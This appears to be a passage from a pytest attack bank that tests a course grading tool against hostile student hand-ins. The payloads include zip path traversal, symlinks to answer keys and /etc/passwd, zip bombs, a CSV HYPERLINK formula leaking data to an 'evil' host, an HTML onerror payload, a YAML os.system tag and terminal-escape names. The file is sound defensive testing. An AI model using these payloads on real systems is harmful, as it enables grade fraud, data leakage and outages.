"""A blind attack bank on the class-level paths, written without reading the other banks.

Each attack is a concrete hand-in (files, an archive, a notebook, a YAML answers file, an id, a
roster name) and the property it tries to break:

* (a) the class run stops, or an honest classmate's grade goes missing or wrong;
* (b) a grade for work not done (another's grade, the reference or the key, forged results);
* (c) an output that lies or injects (a CSV formula, Markdown or HTML, a terminal escape or rich
  markup, a path out of the output folder);
* (d) unbounded time, memory or disk.

The class paths: ``seqlab grade-all`` (one class holding every attack beside honest students,
graded once with ``--no-labs --only optimizers.sgd``: the run is the unit under attack, each test
reads its own property from it), ``seqlab exam grade-all`` (one class of answers files, likewise),
nbgrader's hand-in reading and export (``seqlab.nbgrader.autograde``'s own stages, in process),
the Gradescope upload reader and the GitHub gradebook job (``seqlab.classroom``).

An attack that breaks its property is marked ``xfail(strict=True)`` with what breaks: the bank
stays green and says honestly what is left.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import socket
import stat
import struct
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import pytest

pytestmark = [pytest.mark.bank, pytest.mark.slow]

ROOT = Path(__file__).resolve().parents[2]
HONEST = ROOT / "tests" / "student" / "honest_submissions"
PY = sys.executable
ONLY = "optimizers.sgd"  # the narrowest grading: each graded hand-in takes a few seconds
FULL = 2.0  # optimizers.sgd's points
ESC = "\x1b"
# A place out of every output folder an attack tries to write to (path traversal, absolute paths).
CANARY = Path("/tmp/seqlab-blind-canary-39")


def _honest_optimizers() -> bytes:
    return (HONEST / "terse" / "exercises" / "optimizers.py").read_bytes()


def _honest(folder: Path, style: str = "terse") -> None:
    shutil.copytree(HONEST / style, folder)


def _zip(path: Path, members: list) -> Path:
    """A zip of ``members``: (name, bytes) or (ZipInfo, bytes)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


def _link_member(name: str, target: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    info.create_system = 3
    return info, target.encode()  # type: ignore[return-value]


def _special_member(name: str, mode: int) -> tuple[zipfile.ZipInfo, bytes]:
    info = zipfile.ZipInfo(name)
    info.external_attr = (mode | 0o644) << 16
    info.create_system = 3
    return info, b""


def _patch(path: Path, old: bytes, new: bytes, count: int = -1) -> None:
    data = path.read_bytes()
    assert old in data
    path.write_bytes(data.replace(old, new, count))


# =================================================================================================
# grade-all: one class holding every attack beside honest students
# =================================================================================================
# name -> (builder(class_dir) -> the entry handed in, property kind)
GA: dict = {}


def ga(name):
    def register(fn):
        GA[name] = fn
        return fn

    return register


@ga("zip-symlink-member-to-reference")
def _(c: Path):  # (b) a link member pointing at the course's reference solution
    return _zip(
        c / "m01.zip",
        [_link_member("exercises/optimizers.py", str(ROOT / "solutions" / "exercises" / "optimizers.py"))],
    )


@ga("zip-dotdot-member-into-classmate")
def _(c: Path):  # (b)(c) overwrite alice's copy / write out of the scratch folder
    return _zip(
        c / "m02.zip",
        [("exercises/optimizers.py", b"def sgd(w, dw, state, lr=1e-2):\n    return w, {}\n"),
         ("../../alice/exercises/optimizers.py", b"raise SystemExit\n"),
         ("exercises/../../../seqlab-blind-canary-39/x.py", b"x")],
    )  # fmt: skip


@ga("zip-absolute-member")
def _(c: Path):  # (c) an absolute path member
    return _zip(c / "m03.zip", [(f"{CANARY}/abs.py", b"x"), ("exercises/optimizers.py", b"")])


@ga("zip-backslash-and-drive-members")
def _(c: Path):  # (c) Windows-style traversal: ..\\..\\x and C:/x
    return _zip(c / "m04.zip", [("..\\..\\seqlab-blind-canary-39\\w.py", b"x"), ("C:/evil.py", b"x")])


@ga("zip-file-and-folder-of-one-name")
def _(c: Path):  # (a) a member both a file and a folder
    return _zip(c / "m05.zip", [("exercises/optimizers.py", b"x = 1\n"), ("exercises/optimizers.py/rnn.py", b"")])


@ga("zip-duplicate-entries")
def _(c: Path):  # (a) one name twice: a reader must pick one, never stop
    with pytest.warns(UserWarning):
        _zip(c / "m06.zip", [("exercises/optimizers.py", b"x = 1\n"), ("exercises/optimizers.py", b"y = 2\n")])
    return c / "m06.zip"


@ga("zip-bomb-nested")
def _(c: Path):  # (d) 3 x 64 MB of zeros in a few hundred KB, one level nested
    inner = c.parent / "bomb-inner.zip"
    zeros = b"\0" * (64 << 20)
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for i in range(3):
            zf.writestr(f"z{i}.bin", zeros)
    return _zip(c / "m07.zip", [("notes/inner.zip", inner.read_bytes())])


@ga("zip-nested-four-deep")
def _(c: Path):  # (d) zip in zip in zip in zip with the module file at the bottom
    data = _zip(c.parent / "n0.zip", [("exercises/optimizers.py", _honest_optimizers())]).read_bytes()
    for level in range(1, 4):
        data = _zip(c.parent / f"n{level}.zip", [(f"level{level}.zip", data)]).read_bytes()
    (c / "m08.zip").write_bytes(data)
    return c / "m08.zip"


@ga("zip-encrypted-entry")
def _(c: Path):  # (a) the encryption flag set on a member
    path = _zip(c / "m09.zip", [("exercises/optimizers.py", _honest_optimizers())])
    data = bytearray(path.read_bytes())
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(sig)
        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
        data[flag_at] |= 1
    path.write_bytes(bytes(data))
    return path


@ga("zip64-locator-lie")
def _(c: Path):  # (a)(d) an end record claiming 0xFFFF entries, a zip64 record claiming 2**40
    path = _zip(c / "m10.zip", [("exercises/optimizers.py", b"x = 1\n")])
    data = path.read_bytes()
    eocd = data.rfind(b"PK\x05\x06")
    cd_offset = struct.unpack_from("<I", data, eocd + 16)[0]
    z64 = struct.pack(
        "<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 40, 1 << 40, len(data) - cd_offset, cd_offset
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, eocd, 1)
    end = bytearray(data[eocd:])
    struct.pack_into("<HH", end, 8, 0xFFFF, 0xFFFF)
    path.write_bytes(data[:eocd] + z64 + locator + bytes(end))
    return path


@ga("zip-central-and-local-names-differ")
def _(c: Path):  # (c) the central directory says one name, the local header another
    path = _zip(c / "m11.zip", [("exercises/optimizers.py", b"x = 1\n")])
    data = bytearray(path.read_bytes())
    at = data.find(b"PK\x03\x04")
    data[at + 30 : at + 30 + len("exercises/optimizers.py")] = b"../../seqlab-blind-canary"
    path.write_bytes(bytes(data))
    return path


@ga("zip-utf8-flag-invalid-bytes-and-escape-name")
def _(c: Path):  # (a)(c) a name flagged UTF-8 that is not, and a name that is a terminal escape
    path = _zip(c / "m12.zip", [("exercises/AAAA.py", b"x"), ("exercises/BBBBBBBBBB.py", b"y")])
    _patch(path, b"AAAA", b"\xff\xfe\xc3\x28")
    _patch(path, b"BBBBBBBBBB", b"\x1b]0;pwn\x07\x1b[")
    data = bytearray(path.read_bytes())
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            data[at + off + 1] |= 0x08  # bit 11: the name is UTF-8
            start = at + 4
    path.write_bytes(bytes(data))
    return path


@ga("zip-truncated-mid-deflate")
def _(c: Path):  # (a) cut in the middle of its member's data
    path = _zip(c / "m13.zip", [("exercises/optimizers.py", _honest_optimizers() * 50)])
    path.write_bytes(path.read_bytes()[:300])
    return path


@ga("zip-corrupt-deflate-stream")
def _(c: Path):  # (a) a valid directory over a damaged deflate stream
    path = _zip(c / "m14.zip", [("exercises/optimizers.py", _honest_optimizers() * 20)])
    data = bytearray(path.read_bytes())
    for i in range(60, 200):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))
    return path


@ga("zip-unknown-compression-method")
def _(c: Path):  # (a) method 99 (AES) on a member
    path = _zip(c / "m15.zip", [("exercises/optimizers.py", _honest_optimizers())])
    data = bytearray(path.read_bytes())
    for sig, off in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = data.find(sig)
        struct.pack_into("<H", data, at + off, 99)
    path.write_bytes(bytes(data))
    return path


@ga("zip-fifo-and-device-members")
def _(c: Path):  # (d) a FIFO member named like the module file, a device beside it
    return _zip(
        c / "m16.zip",
        [_special_member("exercises/optimizers.py", stat.S_IFIFO), _special_member("exercises/tty", stat.S_IFCHR)],
    )


@ga("zip-20001-entries-claimed")
def _(c: Path):  # (d) an end record claiming 65,535 entries over a tiny archive
    path = _zip(c / "m17.zip", [("exercises/optimizers.py", b"x = 1\n")])
    data = bytearray(path.read_bytes())
    eocd = data.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", data, eocd + 8, 65535, 65535)
    path.write_bytes(bytes(data))
    return path


@ga("zip-thousand-deep-member")
def _(c: Path):  # (a) a member 1000 folders deep
    return _zip(c / "m18.zip", [("/".join(["d"] * 1000) + "/optimizers.py", b"x"), ("exercises/optimizers.py", b"")])


@ga("folder-symlink-exercises-to-classmate")
def _(c: Path):  # (b) exercises -> ../alice/exercises
    (c / "m19").mkdir()
    (c / "m19" / "exercises").symlink_to("../alice/exercises")
    return c / "m19"


@ga("entry-itself-a-symlink-to-classmate")
def _(c: Path):  # (b) the hand-in is a link to alice's folder
    (c / "m20").symlink_to("alice")
    return c / "m20"


@ga("fifo-in-exercises")
def _(c: Path):  # (d) a FIFO beside the module files: reading it blocks for ever
    _honest(c / "m21")
    os.mkfifo(c / "m21" / "exercises" / "cache.fifo")
    return c / "m21"


@ga("socket-in-exercises")
def _(c: Path):  # (d) a Unix socket in exercises/
    _honest(c / "m22")
    sock = socket.socket(socket.AF_UNIX)
    sock.bind(str(c / "m22" / "exercises" / "s"))
    sock.close()
    return c / "m22"


@ga("sparse-8gb-module-file")
def _(c: Path):  # (d) an 8 GB sparse file standing as a module file
    (c / "m23" / "exercises").mkdir(parents=True)
    with open(c / "m23" / "exercises" / "rnn.py", "wb") as handle:
        handle.truncate(8 << 30)
    (c / "m23" / "exercises" / "optimizers.py").write_bytes(_honest_optimizers())
    return c / "m23"


@ga("folder-2000-deep")
def _(c: Path):  # (a) a 2000-deep tree beside the exercises
    _honest(c / "m24")
    deep = c / "m24"
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(2000):  # made relative to a descriptor: the path itself is too long for one call
        os.mkdir("d", dir_fd=fd)
        new = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = new
    os.close(fd)
    return c / "m24"


def _remove_deep(top: Path) -> None:
    """Take a deep chain of ``d`` folders down one level at a time (shutil.rmtree, and pytest's
    own clean-up of old temporary folders, recurse once per level and stop at Python's limit)."""
    while (top / "d").is_dir():
        if (top / "d" / "d").is_dir():
            os.rename(top / "d" / "d", top / "d-next")
            os.rmdir(top / "d")
            os.rename(top / "d-next", top / "d")
        else:
            shutil.rmtree(top / "d")


@ga("forged-results-in-hand-in")
def _(c: Path):  # (b) a hand-in carrying results.json, status.json and seqlab_result.json that claim full marks
    (c / "m25" / "exercises").mkdir(parents=True)
    (c / "m25" / "exercises" / "optimizers.py").write_text("def sgd(w, dw, state, lr=1e-2):\n    return w, {}\n")
    forged = {"status": "graded", "score": 2, "max_score": 2, "tests": []}
    for name in ("results.json", "status.json", "seqlab_result.json"):
        (c / "m25" / name).write_text(json.dumps(forged))
        (c / "m25" / "exercises" / name).write_text(json.dumps(forged))
    (c / "m25" / "exercises" / "__pycache__").mkdir()
    (c / "m25" / "exercises" / "__pycache__" / "optimizers.cpython-311.pyc").write_bytes(b"\0" * 64)
    return c / "m25"


@ga("name-newline-forges-a-row")
def _(c: Path):  # (c) a name holding a newline and a forged CSV row
    entry = c / "m26\nbob,graded,2,2,100.0"
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-terminal-escape")
def _(c: Path):  # (c) OSC title, clear-screen and a colour in a folder name
    entry = c / "m27\x1b]0;owned\x07\x1b[2J\x1b[31mred"
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-rtl-override")
def _(c: Path):  # (c) U+202E: "m28 yp.exe" shown reversed
    entry = c / "m28\u202eexe.py"
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-rich-markup")
def _(c: Path):  # (c) rich markup that closes the caller's tag and styles the rest
    entry = c / "[bold red]m29[blink][link=http:x]\\"
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-csv-formula")
def _(c: Path):  # (c) a formula as the folder name
    entry = c / '=HYPERLINK("http:\u2215\u2215x",1)+m30'
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-250-chars")
def _(c: Path):  # (a) a 250-character name: any name derived from it must still be writable
    entry = c / ("m31" + "x" * 247)
    _honest(entry)
    return entry


@ga("name-not-utf8")
def _(c: Path):  # (a) a name in Latin-1 bytes
    entry = Path(os.fsdecode(bytes(c) + b"/m32-\xe9l\xe8ve"))
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text("")
    return entry


@ga("name-of-gradebook")
def _(c: Path):  # (a)(b) a zip named gradebook.csv.zip, a folder named lms, one named _submissions
    for name in ("lms", "_submissions", "class_report.html", "similarity"):
        (c / name / "exercises").mkdir(parents=True)
        (c / name / "exercises" / "optimizers.py").write_text("")
    return _zip(c / "gradebook.csv.zip", [("exercises/optimizers.py", b"")])


@ga("name-of-a-derived-name")
def _(c: Path):  # (b) squat the name grade-all derives for another entry ("zed." -> zed+<hash>)
    import hashlib

    (c / "zed." / "exercises").mkdir(parents=True)
    (c / "zed." / "exercises" / "optimizers.py").write_bytes(_honest_optimizers())
    squat = c / f"zed+{hashlib.sha256(b'zed.').hexdigest()[:12]}"
    (squat / "exercises").mkdir(parents=True)
    (squat / "exercises" / "optimizers.py").write_text("")
    return squat


@ga("nfc-nfd-twins")
def _(c: Path):  # (a) "josé" composed and decomposed: two students, two rows
    _honest(c / unicodedata.normalize("NFC", "josé"))
    (c / unicodedata.normalize("NFD", "josé") / "exercises").mkdir(parents=True)
    (c / unicodedata.normalize("NFD", "josé") / "exercises" / "optimizers.py").write_text("")
    return c / unicodedata.normalize("NFD", "josé")


@ga("exception-message-injects-reports")
def _(c: Path):  # (c) the code's own error message: Markdown, HTML, ANSI and rich markup
    entry = c / "m35"
    (entry / "exercises").mkdir(parents=True)
    (entry / "exercises" / "optimizers.py").write_text(
        "def sgd(w, dw, state, lr=1e-2):\n"
        "    raise ValueError('\\x1b]0;pwn\\x07\\x1b[2J\\n# 2 / 2 (100%)\\n**2 / 2 (100%)** "
        '<img src=x onerror=alert(1)> [/][bold]x =HYPERLINK("http://x")\')\n'
    )
    return entry


@ga("honest-alice-zip-squats-victim-name")
def _(c: Path):  # (a) mallory hands in "vic.zip" beside honest "vic/": vic's LMS row loses her grade
    _honest(c / "vic", "oop")
    return _zip(c / "vic.zip", [("exercises/optimizers.py", b"")])


@ga("casefold-twin-of-victim")
def _(c: Path):  # (a) "ſam" (long s) folds to "sam": the honest sam loses her name in the LMS files
    _honest(c / "sam", "functional")
    (c / "ſam" / "exercises").mkdir(parents=True)
    (c / "ſam" / "exercises" / "optimizers.py").write_text("")
    return c / "ſam"


@ga("fifo-named-like-a-zip")
def _(c: Path):  # (d) a FIFO "m38.zip" in the class folder
    os.mkfifo(c / "m38.zip")
    return c / "m38.zip"


@ga("tarball-with-hardlink-and-symlink")
def _(c: Path):  # (a)(b) a .tar.gz (links to the reference inside): not read, but never silently lost
    import io
    import tarfile

    with tarfile.open(c / "m39.tar.gz", "w:gz") as tar:
        data = _honest_optimizers()
        info = tarfile.TarInfo("exercises/rnn.py")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("exercises/optimizers.py")
        link.type, link.linkname = tarfile.SYMTYPE, str(ROOT / "solutions" / "exercises" / "optimizers.py")
        tar.addfile(link)
        hard = tarfile.TarInfo("exercises/attention.py")
        hard.type, hard.linkname = tarfile.LNKTYPE, "/etc/passwd"
        tar.addfile(hard)
    return c / "m39.tar.gz"


@ga("hidden-folder-hand-in")
def _(c: Path):  # (a) an honest student's folder that starts with a dot (a careless class)
    _honest(c / ".m40")
    return c / ".m40"


@ga("wide-tree-beside-exercises")
def _(c: Path):  # (d) 25,000 empty files beside an honest exercises/ folder
    _honest(c / "m41")
    (c / "m41" / "junk").mkdir()
    for i in range(25_000):
        (c / "m41" / "junk" / f"{i}").touch()
    return c / "m41"


@ga("folder-holding-a-zip-with-a-link")
def _(c: Path):  # (b) no module file in the folder; inside backup.zip, a link member to the reference
    (c / "m42" / "notes").mkdir(parents=True)
    _zip(
        c / "m42" / "notes" / "backup.zip",
        [_link_member("exercises/optimizers.py", str(ROOT / "solutions" / "exercises" / "optimizers.py"))],
    )
    return c / "m42"


# Who each attack tries to cost its grade, beside alice and bob (graded in every run).

BROKEN_GA = {
    "honest-alice-zip-squats-victim-name": "a hand-in named vic.zip beside honest vic/ renames both: "
    "vic's grade is filed under vic+<hash>, and the roster's vic gets no grade in lms/canvas.csv",
}


@pytest.fixture(scope="module")
def class_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("blind-class")
    shutil.rmtree(CANARY, ignore_errors=True)
    c = base / "class"
    c.mkdir()
    _honest(c / "alice", "terse")
    _honest(c / "bob", "oop")
    try:
        entries = {name: build(c) for name, build in GA.items()}
        roster = base / "roster.csv"
        roster.write_text(
            "Student,ID,SIS User ID,SIS Login ID,Section\n"
            "Alice,1,s1,alice,A\n"
            '"=HYPERLINK(""http://evil/?""&A1,""Bob"")",2,s2,bob,A\n'
            '"Vic\r\n\x1b[31m",3,s3,vic,A\n'
            "Sam,4,s4,sam,A\n"
        )
        started = time.monotonic()
        done = subprocess.run(
            [PY, "-m", "seqlab", "grade-all", str(c), "--out", str(base / "out"), "--no-labs", "--only", ONLY,
             "--seed", "3", "--jobs", "2", "--lms-roster", str(roster), "--timeout", "240"],
            capture_output=True, timeout=900, cwd=base, env={**os.environ, "COLUMNS": "200"},
        )  # fmt: skip
        seconds = time.monotonic() - started
        out = base / "out"
        statuses = {}
        for status in out.glob("*/status.json"):
            data = json.loads(status.read_text(encoding="utf-8"))
            statuses[data["source"]] = data
        rows = []
        if (out / "gradebook.csv").is_file():
            with open(out / "gradebook.csv", newline="", encoding="utf-8") as handle:
                rows = list(csv.DictReader(handle))
        yield {
            "base": base,
            "class": c,
            "out": out,
            "entries": entries,
            "done": done,
            "stdout": done.stdout.decode("utf-8", "replace"),
            "stderr": done.stderr.decode("utf-8", "replace"),
            "rows": {r["submission"]: r for r in rows},
            "statuses": statuses,
            "seconds": seconds,
        }
    finally:  # never leave a 2000-deep tree behind: it stops pytest's own clean-up
        _remove_deep(c / "m24")
        shutil.rmtree(base, ignore_errors=True)


def _text_outputs(out: Path):
    for top, dirs, files in os.walk(out):
        dirs[:] = [d for d in dirs if d != "_submissions"]
        for file in files:
            path = Path(top, file)
            if path.suffix in (".csv", ".md", ".html", ".txt", ".json", ".xml"):
                yield path, path.read_text(encoding="utf-8", errors="replace")


def _graded_full(run, name):
    row = run["rows"].get(name)
    assert row is not None, (name, sorted(run["rows"]))
    assert row["status"] == "graded" and float(row["total"]) == FULL, row


@pytest.mark.parametrize(
    "attack",
    [pytest.param(n, marks=pytest.mark.xfail(strict=True, reason=BROKEN_GA[n])) if n in BROKEN_GA else n for n in GA],
)
def test_grade_all_attack_costs_only_its_own_row(class_run, attack):
    run = class_run
    both = run["stdout"] + run["stderr"]
    assert "Traceback" not in both, run["stderr"][-3000:]
    assert run["seconds"] < 600
    # the class ran to its end: the gradebook and the LMS files exist, the honest students graded
    out = run["out"]
    for name in ("gradebook.csv", "lms/canvas.csv", "lms/moodle.csv", "lms/roster_check.txt"):
        assert (out / name).is_file(), name
    for honest in ("alice", "bob"):
        _graded_full(run, honest)
    # nothing written out of the output folder
    assert not CANARY.exists()
    for folder in (run["base"], run["out"], run["class"], run["base"].parent):
        assert not list(folder.glob("seqlab-blind-canary*")), folder
    entry = run["entries"][attack]
    if attack in NOT_HAND_INS:  # skipped, unread, and said so by name
        assert f"skipped: {entry.name} (" in run["stdout"], run["stdout"][:3000]
        return
    status = run["statuses"].get(str(entry))
    assert status is not None, f"{entry!r} has no row"
    name = status["name"]
    assert name in run["rows"], (name, sorted(run["rows"]))
    ATTACK_CHECKS.get(attack, _not_full)(run, attack, name)


def _outputs_clean(run, *, esc=False, rtl=False, markdown=False, formula=False):
    """No output of the run (the console, every file written) carries what the attack put in
    its name or message: a terminal escape, a bidirectional override, raw HTML or Markdown that
    forges a score, a CSV formula. Each attack checks its own: they share one run."""
    both = run["stdout"] + run["stderr"]
    needles = [ESC] * esc + ["\u202e"] * rtl
    for needle in needles:
        assert needle not in both, [line for line in both.splitlines() if needle in line]
    for path, text in _text_outputs(run["out"]):
        for needle in needles:
            assert needle not in text, path
        if markdown and path.suffix in (".md", ".html"):
            assert "<img" not in text, path
        if markdown and path.suffix == ".md":
            assert "**2 / 2 (100%)**" not in text, path
            assert not re.search(r"^#+ 2 / 2", text, re.M), path
        if formula and path.suffix == ".csv":
            for cells in csv.reader(text.splitlines()):
                for cell in cells:
                    lead = cell.lstrip(" ")[:1]
                    assert not lead or lead not in "=+@\uff1d\uff0b\uff20" or re.fullmatch(r"[+-]?[\d.]+", cell), (
                        path,
                        cell,
                    )


def _check_clean(**what):
    def check(run, attack, name):
        _not_full(run, attack, name)
        _outputs_clean(run, **what)

    return check


def _check_rich(run, attack, name):
    _not_full(run, attack, name)
    assert "[bold red]m29[blink][link=http:x]" in run["stdout"], run["stdout"][-2000:]


def _not_full(run, attack, name):
    """A hand-in that holds no honest work (a link, a forged file, a broken archive) gets no points."""
    row = run["rows"][name]
    if row["status"] == "graded":
        assert float(row["total"]) < FULL, row
    else:
        assert row["reason"], row


def _check_lms_victim(victim):
    def check(run, attack, name):
        _not_full(run, attack, name)
        vic = [r for n, r in run["rows"].items() if n == victim or n.startswith(victim + "+")]
        assert any(r["status"] == "graded" and float(r["total"]) == FULL for r in vic), vic
        with open(run["out"] / "lms" / "canvas.csv", newline="", encoding="utf-8") as handle:
            canvas = {r["SIS Login ID"]: r for r in csv.DictReader(handle)}
        assert canvas[victim]["seqlab"] == f"{FULL:g}", canvas[victim]

    return check


def _check_graded_full(run, attack, name):
    _graded_full(run, name)


def _check_nfc_nfd(run, attack, name):
    _not_full(run, attack, name)
    nfc = run["statuses"][str(run["class"] / unicodedata.normalize("NFC", "josé"))]
    assert nfc["name"] != name
    _graded_full(run, nfc["name"])


def _check_squat(run, attack, name):
    _not_full(run, attack, name)
    zed = run["statuses"][str(run["class"] / "zed.")]
    assert zed["name"] != name
    _graded_full(run, zed["name"])


def _check_reserved(run, attack, name):
    _not_full(run, attack, name)
    for entry in ("lms", "_submissions", "class_report.html", "similarity"):
        assert run["statuses"][str(run["class"] / entry)]["name"] not in ("lms", "_submissions", "class_report.html")
    assert (run["out"] / "class_report.html").is_file()


def _check_newline(run, attack, name):
    _not_full(run, attack, name)
    text = (run["out"] / "gradebook.csv").read_text(encoding="utf-8")
    assert sum(1 for line in text.splitlines() if line.startswith("bob,")) == 1


def _check_message(run, attack, name):
    row = run["rows"][name]
    assert row["status"] == "graded" and float(row["total"]) == 0, row
    _outputs_clean(run, esc=True, markdown=True, formula=True)


def _check_bounded(seconds):
    def check(run, attack, name):
        _not_full(run, attack, name)
        assert run["statuses"][str(run["entries"][attack])]["seconds"] < seconds

    return check


ATTACK_CHECKS = {
    "honest-alice-zip-squats-victim-name": _check_lms_victim("vic"),
    "casefold-twin-of-victim": _check_lms_victim("sam"),
    "nfc-nfd-twins": _check_nfc_nfd,
    "name-of-a-derived-name": _check_squat,
    "name-of-gradebook": _check_reserved,
    "name-newline-forges-a-row": _check_newline,
    "exception-message-injects-reports": _check_message,
    "name-terminal-escape": _check_clean(esc=True),
    "name-rtl-override": _check_clean(rtl=True),
    "name-rich-markup": _check_rich,
    "name-csv-formula": _check_clean(formula=True),
    "zip-utf8-flag-invalid-bytes-and-escape-name": _check_clean(esc=True),
    "folder-2000-deep": _check_graded_full,
    "name-250-chars": _check_graded_full,
    "zip-nested-four-deep": _not_full,
    "zip-bomb-nested": _check_bounded(30),
    "wide-tree-beside-exercises": _check_bounded(30),
    "sparse-8gb-module-file": _check_bounded(30),
    "fifo-in-exercises": _check_bounded(30),
}
NOT_HAND_INS = {"fifo-named-like-a-zip", "tarball-with-hardlink-and-symlink", "hidden-folder-hand-in"}


@pytest.mark.parametrize("who", ["formula-display-name", "line-break-and-escape-display-name"])
def test_grade_all_roster_display_names_are_text(class_run, who):
    """(c) A roster display name is the student's own text: ``=HYPERLINK(...)`` (bob) and a line
    break with an escape (vic) reach lms/canvas.csv and roster_check.txt as text on one line."""
    lms = class_run["out"] / "lms"
    canvas = (lms / "canvas.csv").read_text(encoding="utf-8")
    check = (lms / "roster_check.txt").read_text(encoding="utf-8")
    rows = list(csv.reader(canvas.splitlines()))
    assert len({len(r) for r in rows}) == 1, rows  # no row broken in two
    if who == "formula-display-name":
        bob = next(r for r in rows if "bob" in r)
        assert bob[0].startswith("'=HYPERLINK"), bob
        assert bob[-1] == f"{FULL:g}", bob
    else:
        assert ESC not in canvas and ESC not in check and "\r" not in canvas
        vic = [r for r in rows if "vic" in r]
        assert len(vic) == 1 and vic[0][0].startswith("Vic"), vic


# =================================================================================================
# exam grade-all: one class of answers files
# =================================================================================================
EXAM = ROOT / "exams" / "final.yaml"
EX: dict = {}


def ex(name):
    def register(fn):
        EX[name] = fn
        return fn

    return register


def _answers(student: str, answers: dict | None = None) -> str:
    return json.dumps({"student": student, "answers": answers or {"concept.bottleneck": "A"}})


@ex("id-with-trailing-newline")
def _(c: Path):  # (a)(c) "erin\n.yaml": the id regex's $ takes a final newline: a second "erin"
    (c / "erin.yaml").write_text(_answers("erin"))
    (c / "erin\n.yaml").write_text(_answers("erin", {"concept.bottleneck": "B"}))
    return c / "erin\n.yaml"


@ex("answers-file-links-to-key")
def _(c: Path):  # (b) a link to the exam file itself (the key's source)
    (c / "e02.yaml").symlink_to(EXAM)
    return c / "e02.yaml"


@ex("billion-laughs")
def _(c: Path):  # (d) nested aliases
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    (c / "e03.yaml").write_text("\n".join(lines) + "\nstudent: e03\nanswers: {q: *a8}\n")
    return c / "e03.yaml"


@ex("python-object-tag")
def _(c: Path):  # (b)(c) a tag that runs a command under an unsafe loader
    (c / "e04.yaml").write_text(
        f"student: e04\nanswers:\n  concept.bottleneck: !!python/object/apply:os.system ['mkdir {CANARY}']\n"
    )
    return c / "e04.yaml"


@ex("huge-integer-answer")
def _(c: Path):  # (d) a 900,000-digit integer as a numeric answer
    (c / "e05.yaml").write_text("student: e05\nanswers:\n  rnn.param_count: " + "9" * 900_000 + "\n")
    return c / "e05.yaml"


@ex("deep-flow-nesting")
def _(c: Path):  # (a) 50,000 nested flow sequences
    (c / "e06.yaml").write_text("student: e06\nanswers: {q: " + "[" * 50_000 + "]" * 50_000 + "}\n")
    return c / "e06.yaml"


@ex("names-of-exam-outputs")
def _(c: Path):  # (a)(b) ids that are grade-all's own outputs
    for name in ("gradebook.csv.yaml", "LMS.yml", "Item_Analysis.csv.json", "class_report.html.yaml"):
        (c / name).write_text(_answers("x"))
    return c / "gradebook.csv.yaml"


@ex("escape-in-a-name-inside-a-student-folder")
def _(c: Path):  # (c) ID/ folder of two files, one named with a terminal escape
    (c / "e08").mkdir()
    (c / "e08" / "a.yaml").write_text(_answers("e08"))
    (c / "e08" / "\x1b]0;pwn\x07\x1b[2J.yaml").write_text(_answers("e08"))
    return c / "e08" / "a.yaml"


@ex("student-folder-links-to-classmate")
def _(c: Path):  # (b) e09/ -> hank/ (hank's answers graded as e09's)
    (c / "hank").mkdir()
    (c / "hank" / "final.yaml").write_text(_answers("hank"))
    (c / "e09").symlink_to("hank")
    return c / "e09"


@ex("second-file-in-victims-name")
def _(c: Path):  # (a) mallory hands in answers-dora.yaml beside honest dora.yaml: both refused
    (c / "dora.yaml").write_text(_answers("dora"))
    (c / "answers-dora.yaml").write_text(_answers("dora", {"concept.bottleneck": "C"}))
    return c / "answers-dora.yaml"


@ex("case-twin-file-of-victim")
def _(c: Path):  # (a) mallory hands in FAY.yml beside honest fay.yaml: one student up to case
    (c / "fay.yaml").write_text(_answers("fay"))
    (c / "FAY.yml").write_text(_answers("FAY", {"concept.bottleneck": "D"}))
    return c / "FAY.yml"


def _degenerate_answers() -> dict:
    """An answer for every question that is no answer: NaN and infinities for numbers, sympy's
    undefined values for formulas, every option at once for choices, both for true/false."""
    from seqlab.exam.examfile import load_exam

    answers = {}
    for q in load_exam(EXAM).questions:
        kind, qid = q.question.kind, q.question.id
        answers[qid] = {
            "numeric": ".nan, nan, inf, -inf, 1e999, -1e999",
            "symbolic": "nan + zoo*x + oo",
            "choice": "A, B, C, D, E, F, G, H",
            "truefalse": "true false",
        }.get(kind, "nan")
    return answers


@ex("degenerate-values-for-points")
def _(c: Path):  # (b) NaN, infinities, undefined formulas, every option: points for no answer
    (c / "e20.yaml").write_text(_answers("e20", _degenerate_answers()))
    return c / "e20.yaml"


@ex("claims-another-id")
def _(c: Path):  # (b) content claims bob
    (c / "e11.yaml").write_text(_answers("bob"))
    return c / "e11.yaml"


@ex("answer-text-injects")
def _(c: Path):  # (c) answers holding an escape, Markdown and HTML
